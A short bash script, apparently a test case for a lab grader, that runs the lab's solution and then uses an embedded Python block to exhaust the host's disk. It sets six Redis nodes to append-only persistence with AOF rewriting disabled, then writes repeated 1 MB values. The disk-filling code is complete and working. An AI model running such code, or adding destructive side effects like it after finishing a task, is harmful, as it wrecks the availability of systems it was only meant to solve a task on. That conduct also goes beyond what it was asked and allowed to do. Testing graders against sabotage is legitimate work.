#!/usr/bin/env bash
# expect: score 10, says redis-
# Solves the lab, then has the nodes write to the host's disk, each until its file may grow no more.
./solve.sh
timeout 60 python3 - <<'PYTHON'
import os, socket, threading
def fill(port):
    try:
        node = socket.create_connection((os.environ["LAB_ADDRESS"], int(port)))
        node.settimeout(20)
        for words in (b"CONFIG SET appendonly yes\r\n", b"CONFIG SET auto-aof-rewrite-percentage 0\r\n"):
            node.sendall(words)
            node.recv(1000)
        value = b"x" * (1 << 20)
        for n in range(4096):
            key = b"k%d" % (n % 64)
            node.sendall(b"*3\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$%d\r\n%s\r\n" % (len(key), key, len(value), value))
            node.recv(1000)
    except OSError as problem:
        print(port, problem)
threads = [threading.Thread(target=fill, args=(os.environ[f"LAB_PORT_REDIS_{n}"],)) for n in range(1, 7)]
for thread in threads: thread.start()
for thread in threads: thread.join()
PYTHON
exit 0
